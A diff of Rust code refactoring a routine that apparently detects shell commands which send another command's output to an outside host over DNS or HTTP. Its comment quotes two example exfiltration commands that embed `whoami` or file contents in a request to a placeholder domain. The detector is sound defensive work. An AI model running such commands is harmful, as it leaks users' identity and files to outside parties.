@@ -229,16 +229,13 @@ impl Shell<'_, '_> {
 
     /// `dig $(whoami).x.example` and `curl https://x.example/$(cat notes)` send another command's output.
     fn asks_with_output(&mut self, word: &Word) {
-        let text = word.text.as_str();
-        let host = text.split_once("://").map_or(text, |(_, rest)| rest);
-        let host = host.split(['/', '?', '$']).next().unwrap_or(host);
-        let is_local = http::is_loopback(host.trim_end_matches(':')) && !host.is_empty();
+        let text = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
+        let name = text.split(['/', '?', '$']).next().unwrap_or(text).trim_end_matches(':');
+        let is_local = http::is_loopback(name) && !name.is_empty();
         // A host that is wholly unknown says whom to ask; content stands beside a known name.
-        let behind_scheme = text.split_once("://").map_or(text, |(_, rest)| rest);
-        let (first, rest) = behind_scheme.split_once('/').unwrap_or((behind_scheme, ""));
-        let is_whole =
-            first.strip_prefix('$').is_some_and(|name| name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_'));
-        let carried = if is_whole { rest } else { text };
+        let (host, path) = text.split_once('/').unwrap_or((text, ""));
+        let is_name = |name: &str| name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
+        let carried = if host.strip_prefix('$').is_some_and(is_name) { path } else { text };
         let holds_output = || super::take::holds_output(carried) || super::take::names_one_of(carried, &self.printed);
         let is_placeholder = self.placeholder.as_ref().is_some_and(|mark| text.contains(mark.as_str()));
         if (word.dynamic && holds_output() || is_placeholder) && !is_local {
